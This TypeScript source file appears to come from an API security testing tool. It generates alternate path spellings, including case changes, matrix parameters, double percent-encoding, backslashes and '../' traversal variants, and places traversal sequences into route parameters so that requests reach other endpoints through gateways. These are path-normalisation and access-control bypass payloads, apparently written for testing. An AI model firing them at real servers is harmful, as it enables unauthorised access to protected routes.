import { type OracleRoute, segmentsOf } from "../oracle/description.ts";

/** How clients spell a segment of a path so that some server takes it for the segment. */
const ofSegment: readonly ((segment: string) => string)[] = [
  (segment) => segment.toUpperCase(),
  (segment) => `${segment};v=1`,
  (segment) => `${segment.toUpperCase()}%3bv`,
  (segment) => `${segment}%253Bv`,
  (segment) => `${segment}.`,
  (segment) => `${segment}%20`,
  (segment) => `%${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`,
  (segment) => `%25${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`,
  (segment) => `./${segment}`,
  (segment) => `/${segment}`,
  (segment) => `;/${segment}`,
  (segment) => `x/../${segment}`,
  (segment) => `x/%2e%2e/${segment}`,
  (segment) => `x/..%3b/${segment}`,
  (segment) => `x/..%20/${segment}`,
  (segment) => `${segment}/`,
  (segment) => `${segment}/;x`,
  (segment) => `${segment}%2F`,
];

/** Spellings of slashes and of the segment before, for a server that decodes or takes backslashes for slashes. */
const climbs = ["../", "..%2f", "..%252F", "%2e%2e%2f", "..;/", "..%3b/", "..%5c", "%252e%252e%252f"];
const slashes = ["/", "%2f", "%252F", "%5c"];

const value = "7";

/** A path of a pattern. */
export function samplePath(segments: readonly string[], values: (part: string) => string = () => value): string {
  return `/${segments.map((part) => (part.startsWith("{") ? values(part) : part)).join("/")}`;
}

/** Spellings of a route's path. */
export function spellings(path: string): readonly string[] {
  const parts = segmentsOf(path);
  const changed = parts.flatMap((part, index) =>
    ofSegment.map((spell) => `/${parts.with(index, spell(part)).join("/")}`),
  );
  return [...changed, `${path}/`, `/${path}`, `/;${path}`, `/.${path}`, `/x/..${path}`];
}

function firstEncoded(segment: string, percent: string): string {
  return `${percent}${segment.charCodeAt(0).toString(16)}${segment.slice(1)}`;
}

/** Paths of another route whose parameters lead to a path at the server. */
export function through(route: OracleRoute, target: string): readonly string[] {
  const names = route.segments.filter((part) => part.startsWith("{"));
  const below = segmentsOf(target);
  // For a gateway that decodes the path after it has selected the route, or ends it at a decoded question mark.
  const encoded = ["%", "%25"].flatMap((percent) =>
    slashes.flatMap((slash) =>
      ["", "%3f", "%3f/x"].map((end) => `${below.map((part) => firstEncoded(part, percent)).join(slash)}${end}`),
    ),
  );
  const values = climbs.flatMap((climb) =>
    slashes.flatMap((slash) =>
      [0, 1, 2, 3].flatMap((times) => {
        const up = `${climb.repeat(times)}${below.join(slash)}`;
        return [up, `${value}/${climb}${up}`];
      }),
    ),
  );
  return names.flatMap((name) =>
    [...values, ...encoded].map((text) => samplePath(route.segments, (part) => (part === name ? text : value))),
  );
}
